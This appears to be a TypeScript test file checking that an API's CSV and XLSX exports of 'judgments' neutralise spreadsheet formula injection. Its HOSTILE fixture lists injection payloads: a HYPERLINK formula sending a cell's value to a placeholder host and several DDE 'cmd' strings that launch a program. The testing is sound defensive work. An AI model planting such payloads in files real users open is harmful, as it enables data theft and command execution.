import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { csvHeader } from '../../src/api/judgments-csv';
import { TEST_DATABASES } from '../support/databases';
import { specExample } from '../support/qimen-push';
import { startTestService, TestService } from '../support/test-service';
import { FINANCE_CONFIG, TOKENS } from './finance-fixture';

/** Text a spreadsheet would run as a formula: the HTTP contract's prefixes =, +, -, @, tab and carriage return. */
const HOSTILE = {
  '=': '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
  '+': '+1+cmd|\' /C calc\'!A0',
  '-': '-2+3+cmd|\' /C calc\'!A0',
  '@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  'carriage return': '\r=1+1',
};

describe.each(TEST_DATABASES)('GET /api/judgments.csv with formula text in the judgments on %s', (kind) => {
  let svc: TestService;
  let records: Record<string, string>[];

  beforeAll(async () => {
    svc = await startTestService(kind, FINANCE_CONFIG);
    for (const [i, text] of Object.values(HOSTILE).entries()) {
      const judgment = { ...specExample(), externalOrderId: text, tenantId: i === 0 ? '=1+2' : 'MAOCHAO' };
      expect((await svc.push(judgment)).json.errorId).toBe('success');
    }
    const res = await fetch(`${svc.baseUrl}/api/judgments.csv`, { headers: { authorization: `Bearer ${TOKENS.viewer}` } });
    records = parse(Buffer.from(await res.arrayBuffer()), { bom: true, columns: true });
  });
  afterAll(() => svc.close());

  it.each(Object.entries(HOSTILE))('writes a cell beginning with %s with a leading quote, the text kept after it', (_prefix, text) => {
    const cells = records.map((r) => r.externalOrderId);
    expect(cells).toContain(`'${text}`);
    expect(cells).not.toContain(text);
  });

  it('leaves no cell of the export beginning with a formula prefix', () => {
    const header = csvHeader('UTC');
    const cells = records.flatMap((r) => header.map((c) => r[c]));
    expect(cells.every((cell) => typeof cell === 'string')).toBe(true);
    expect(cells.length).toBe(Object.keys(HOSTILE).length * header.length);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(records.map((r) => r.tenantId)).toContain("'=1+2");
  });

  it('writes the same text into the XLSX as string cells: no formula, no quote added', async () => {
    const res = await fetch(`${svc.baseUrl}/api/judgments.xlsx`, { headers: { authorization: `Bearer ${TOKENS.viewer}` } });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
    const orders: Array<{ type: ExcelJS.ValueType; value: unknown }> = [];
    workbook.worksheets[0].eachRow((row, n) => {
      if (n > 1) orders.push({ type: row.getCell(2).type, value: row.getCell(2).value });
    });
    expect(orders.map((o) => o.type)).toEqual(Object.values(HOSTILE).map(() => ExcelJS.ValueType.String));
    // XML reads a carriage return in text back as a line feed (line-end normalization): the one change.
    expect(orders.map((o) => o.value).sort()).toEqual(Object.values(HOSTILE).map((t) => t.replace(/\r/g, '\n')).sort());
  });
});
